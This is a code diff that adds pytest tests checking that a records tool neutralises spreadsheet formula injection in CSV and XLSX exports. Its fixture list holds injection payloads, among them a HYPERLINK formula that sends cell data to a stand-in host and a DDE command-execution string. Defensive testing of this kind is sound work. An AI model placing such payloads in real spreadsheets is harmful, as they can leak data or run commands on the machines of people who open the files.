@@ -140,3 +140,43 @@ def test_a_file_that_cannot_be_read_is_named_with_the_problem(engine, tmp_path, 
         with pytest.raises(TransferError, match=message) as info:
             io.import_file(s, path, user="ana")
     assert str(path) in str(info.value) and info.value.code == "E021"
+
+
+HOSTILE = ["TJK", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "cft", "1373", "II", "", "yes",
+           "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,2); -2+3", "", "", "\tCTED visit"]
+
+
+def test_exports_neutralise_formulas_and_import_back_unchanged(engine, db_url, tmp_path):
+    """Finding 5 of issue 13: ``=HYPERLINK(…)``, ``=cmd|…`` and ``+1+1`` went out unchanged, and as live
+    formulas in XLSX. Every cell starting with = + - @ tab or CR now starts with a quote and is text."""
+    src = write_csv(tmp_path / "in.csv", list(COLUMNS), [HOSTILE])
+    run("recs", "import", str(src), db=db_url)
+    for name in ("out.csv", "out.xlsx"):
+        run("recs", "export", str(tmp_path / name), db=db_url)
+    _, exported = list(io.read_rows(tmp_path / "out.csv"))[1]
+    cells = dict(zip(COLUMNS, exported))
+    assert cells["text"] == "'" + HOSTILE[1]
+    assert cells["ta_description"] == "'=cmd|' /C calc'!A0"
+    assert cells["lead_institutions"] == "'+1+1"
+    assert cells["partners"].startswith("'@")
+    for value in exported:
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    ws = openpyxl.load_workbook(tmp_path / "out.xlsx").active
+    texts = [c for row in ws.iter_rows(min_row=2) for c in row if c.value]
+    assert texts and all(c.data_type == "s" for c in texts)  # no cell is a formula ("f")
+    assert ws.cell(row=2, column=COLUMNS.index("text") + 1).value == "'" + HOSTILE[1]
+    with session_scope(engine) as s:
+        stored = s.scalars(select(DbRecommendation)).one()
+        assert stored.text == HOSTILE[1]  # the knowledge base keeps the text as given
+        for name in ("out.csv", "out.xlsx"):
+            report = io.import_file(s, tmp_path / name, user="ana", dry_run=True)
+            assert report.ok and len(report.skipped) == 1 and report.would_load == 0  # the same record
+
+
+def test_neutralise_cell_follows_the_owasp_rule():
+    from ctrack.safety import neutralise_cell, restore_cell
+
+    for bad in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert neutralise_cell(bad) == "'" + bad and restore_cell(neutralise_cell(bad)) == bad
+    for fine in ("plain", "", "'quoted", "1-2", 3, -4.5, None):
+        assert neutralise_cell(fine) == fine and restore_cell(fine) == fine
